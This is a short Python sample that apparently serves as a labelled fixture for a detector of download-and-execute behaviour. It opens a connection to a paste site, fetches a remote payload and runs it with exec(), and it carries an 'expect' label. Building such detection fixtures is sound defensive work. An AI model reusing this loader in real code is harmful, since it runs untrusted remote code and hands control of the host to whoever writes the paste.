# ruff: noqa
# fmt: off
"""http.client instead of requests: stage two fetched and executed."""
import http.client

conn = http.client.HTTPSConnection("paste.ee")
conn.request("GET", "/r/Zk3q0")
payload = conn.getresponse().read()
exec(payload)  # expect: download-execute
